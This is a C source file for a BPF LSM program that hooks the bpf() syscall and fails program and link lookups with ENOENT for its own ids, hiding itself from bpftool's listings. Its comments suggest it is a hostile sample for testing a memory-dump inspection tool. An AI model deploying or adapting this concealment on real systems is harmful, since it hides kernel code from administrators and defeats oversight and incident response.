// SPDX-License-Identifier: GPL-2.0
/*
 * hide.bpf.c: ki_hide, a BPF LSM program on the bpf() syscall's hook
 * (security_bpf) that hides itself and its link from bpftool.
 *
 * bpftool lists programs with BPF_PROG_GET_NEXT_ID and opens each with
 * BPF_PROG_GET_FD_BY_ID; an id it cannot open with ENOENT it takes for a
 * program unloaded meanwhile and skips (links alike, with
 * BPF_LINK_GET_FD_BY_ID). ki_hide fails those two commands with -ENOENT
 * for the ids that user space wrote into ki_hide_ids after loading and
 * attaching it (slot 0: its program id, slot 1: its link id), so
 * `bpftool prog show` and `bpftool link show` go on without it. Any other
 * error would stop bpftool's listing there. The program stays in
 * prog_idr, and kinspect lists it from the dump.
 *
 * The hook is LSM_HOOK(int, 0, bpf, int cmd, union bpf_attr *attr,
 * unsigned int size) on 6.1 and 6.12 (bpf_lsm_bpf in their BTF); the
 * context is its arguments as u64s. The kernel copies the attribute
 * into its own memory before it calls the hook, and for both commands
 * the first __u32 of union bpf_attr is the id (prog_id, link_id).
 */
#include "bpf_defs.h"

char LICENSE[] SEC("license") = "GPL";

/* enum bpf_cmd */
#define BPF_PROG_GET_FD_BY_ID 13
#define BPF_LINK_GET_FD_BY_ID 30

#define ENOENT 2

/* The slots of ki_hide_ids. */
#define KI_HIDE_PROG 0
#define KI_HIDE_LINK 1

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 2);
	__type(key, __u32);
	__type(value, __u32);
} ki_hide_ids SEC(".maps");

/* long, not int: clang returns an int's -ENOENT as 0xfffffffe in the
 * 64-bit r0, and 6.12's verifier checks an LSM program's return value
 * against [-MAX_ERRNO, 0]. */
SEC("lsm/bpf")
long ki_hide(unsigned long long *ctx)
{
	int cmd = (int)ctx[0];
	const __u32 *attr = (const __u32 *)ctx[1];
	__u32 key, *id;

	if (cmd == BPF_PROG_GET_FD_BY_ID)
		key = KI_HIDE_PROG;
	else if (cmd == BPF_LINK_GET_FD_BY_ID)
		key = KI_HIDE_LINK;
	else
		return 0;
	id = bpf_map_lookup_elem(&ki_hide_ids, &key);
	if (id && *id != 0 && *id == *attr)
		return -ENOENT;
	return 0;
}
